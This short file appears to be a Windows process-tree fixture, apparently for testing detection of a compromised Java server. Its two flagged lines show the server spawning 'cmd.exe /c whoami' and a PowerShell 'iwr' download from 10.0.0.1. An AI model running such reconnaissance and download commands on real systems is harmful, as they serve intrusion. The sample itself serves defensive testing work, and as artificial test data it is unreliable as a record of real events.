os windows
101 1 ana - C:\Windows\System32\services.exe | C:\Windows\System32\services.exe
102 101 ana - C:\app\jre\bin\java.exe | C:\app\jre\bin\java.exe -jar C:\app\server.jar
+ 103 102 ana - C:\Windows\System32\cmd.exe | cmd.exe /c whoami
+ 104 102 ana - C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe | powershell -c "iwr http://10.0.0.1/a"
